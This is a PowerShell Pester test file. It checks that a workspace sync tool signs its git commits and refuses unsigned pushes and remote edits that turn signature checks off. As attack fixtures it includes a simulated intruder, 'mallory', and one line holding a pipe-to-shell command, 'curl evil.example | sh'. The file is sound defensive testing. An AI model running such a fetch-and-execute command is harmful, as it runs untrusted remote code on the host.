BeforeDiscovery {
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    $hasTools = (Test-DeirfTool git) -and (Test-DeirfTool ssh-keygen)
}

BeforeAll {
    # Errors stop the test (issue 27): an absence check ("nothing came back") proves nothing when the cmdlet failed.
    # A test that means to see an error asks for it: -ErrorAction SilentlyContinue -ErrorVariable, or Should -Throw -ErrorId.
    $ErrorActionPreference = 'Stop'
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    Import-Module (Get-DeirfTestModulePath) -Force
    $env:DEIRF_SIGNING_CONFIG = Join-Path $TestDrive 'config/signing-keys.json'
    Remove-Item Env:DEIRF_WORKSPACE, Env:DEIRF_ACTOR -ErrorAction SilentlyContinue

    # What someone with push access and no team key does: a plain clone, a commit, a push.
    function Push-ByHand([string] $Dir, [string] $File, [string] $Text) {
        New-Item -ItemType Directory -Force -Path (Split-Path -Parent (Join-Path $Dir $File)) | Out-Null
        Set-Content -Path (Join-Path $Dir $File) -Value $Text
        git -C $Dir add -A
        git -C $Dir -c user.name=mallory -c user.email=mallory@example.invalid commit --quiet --no-gpg-sign -m "by hand: $File"
        git -C $Dir push --quiet origin main
        (git -C $Dir rev-parse HEAD).Trim()
    }
}

AfterAll {
    Remove-Item Env:DEIRF_SIGNING_CONFIG, Env:DEIRF_ACTOR -ErrorAction SilentlyContinue
}

Describe 'SignedHistory (issue 21): Sync-DeirfWorkspace signs its commits and checks every commit it receives' -Skip:(-not $hasTools) {
    BeforeAll {
        $script:remote = Join-Path $TestDrive 'remote.git'
        git init --quiet --bare --initial-branch=main $remote
        $script:ws1 = Join-Path $TestDrive 'alice-laptop'
        $script:ws2 = Join-Path $TestDrive 'bob-laptop'
        # Founded before it is shared, so the first shared commit is already under the policy (docs/sync.md, "Signed history").
        Initialize-DeirfWorkspace -Path $ws1 | Out-Null
        # Each responder binds a did:key, then an SSH key made by ssh-keygen, and signs with the SSH key: entries and commits.
        foreach ($h in 'alice', 'bob') {
            New-DeirfResponder -Workspace $ws1 -Handle $h -Name $h.ToUpper() -Role ContainmentLead, TriageLead -Actor alice -Confirm:$false | Out-Null
            $seed = New-DeirfTestKey -Kind DidKey -Path (Join-Path $TestDrive "$h.seed")
            Add-DeirfIdentityProof -Workspace $ws1 -Responder $h -Kind DidKey -KeyPath $seed -Confirm:$false | Out-Null
            Set-DeirfSigningKey -Workspace $ws1 -Responder $h -Kind DidKey -KeyPath $seed | Out-Null
            $ssh = New-DeirfTestKey -Kind Ssh -Path (Join-Path $TestDrive "$h.ssh")
            Add-DeirfIdentityProof -Workspace $ws1 -Responder $h -Kind Ssh -KeyPath $ssh -Confirm:$false | Out-Null
            Set-DeirfSigningKey -Workspace $ws1 -Responder $h -Kind Ssh -KeyPath $ssh | Out-Null
        }
        $script:policy = Set-DeirfSyncPolicy require -Workspace $ws1 -Actor alice -PassThru -Confirm:$false
        Initialize-DeirfWorkspace -Path $ws1 -Remote $remote -Actor alice | Out-Null
        $script:root = (git -C $ws1 rev-parse HEAD).Trim()
        Initialize-DeirfWorkspace -Path $ws2 -Remote $remote -Actor bob -WarningVariable cloneWarnings | Out-Null
        $script:cloneWarnings = $cloneWarnings
        $script:inc = (New-DeirfIncident -Workspace $ws2 -Title 'signed history' -Reporter bob).Id
        $script:first = Sync-DeirfWorkspace -Workspace $ws2 -Actor bob
        $script:mallory = Join-Path $TestDrive 'mallory'
        git clone --quiet $remote $mallory
    }

    It 'journals the policy in the roster and signs the sync commit with the actor''s SSH key' {
        $policy.CommitSignatures | Should -Be 'Require'
        $policy.Source | Should -BeLike 'ROSTER#*'
        (git -C $ws1 cat-file commit $root) -join "`n" | Should -Match 'BEGIN SSH SIGNATURE'
        $cloneWarnings | Should -BeNullOrEmpty
        $first.Pushed | Should -BeTrue
        $first.CommitSigned | Should -BeTrue
        $first.CommitSignatures | Should -Be 'require'
        $back = Sync-DeirfWorkspace -Workspace $ws1 -Actor alice -WarningVariable w
        $back.UnverifiedCommits | Should -BeNullOrEmpty
        $w | Should -BeNullOrEmpty
        Test-Path (Join-Path $ws1 "incidents/$inc/journal.jsonl") | Should -BeTrue
    }

    It 'refuses a commit pushed by hand without a signature: SyncCommitUnsigned, the commit as target, nothing merged' {
        git -C $mallory pull --quiet origin main
        $bad = Push-ByHand $mallory 'runbooks/exfiltrate.md' '# curl evil.example | sh'
        $before = (git -C $ws1 rev-parse HEAD).Trim()
        Sync-DeirfWorkspace -Workspace $ws1 -Actor alice -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err.Count | Should -Be 1
        $err[0].FullyQualifiedErrorId | Should -BeLike 'SyncCommitUnsigned*'
        $err[0].TargetObject | Should -Be $bad
        (git -C $ws1 rev-parse HEAD).Trim() | Should -Be $before
        Test-Path (Join-Path $ws1 'runbooks/exfiltrate.md') | Should -BeFalse
        # Put the remote back for the next test (as a person who found the refusal would).
        git -C $mallory reset --quiet --hard $before
        git -C $mallory push --quiet --force origin main
    }

    It 'lets an unsigned commit through with a warning once the policy is warn' {
        Set-DeirfSyncPolicy warn -Workspace $ws1 -Actor alice -Confirm:$false
        (Sync-DeirfWorkspace -Workspace $ws1 -Actor alice).CommitSigned | Should -BeTrue
        git -C $mallory pull --quiet origin main
        $unsigned = Push-ByHand $mallory 'runbooks/notes.md' '# notes'
        $r = Sync-DeirfWorkspace -Workspace $ws1 -Actor alice -WarningVariable warned -WarningAction SilentlyContinue
        $r.CommitSignatures | Should -Be 'warn'
        $r.UnverifiedCommits.Commit | Should -Be $unsigned
        ($warned -join "`n") | Should -Match "Commit $unsigned \(SyncCommitUnsigned\)"
        Test-Path (Join-Path $ws1 'runbooks/notes.md') | Should -BeTrue
    }

    It 'refuses a remote commit that turns verification off by editing sync-policy.json' {
        git -C $mallory pull --quiet origin main
        Push-ByHand $mallory 'sync-policy.json' '{"commitSignatures":"off","version":1}' | Out-Null
        Sync-DeirfWorkspace -Workspace $ws2 -Actor bob -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        @($err | Where-Object FullyQualifiedErrorId -like 'SyncSettingsUnjournaled*').Count | Should -Be 1
        Get-Content -Raw (Join-Path $ws2 'sync-policy.json') | Should -Match 'require'
    }
}
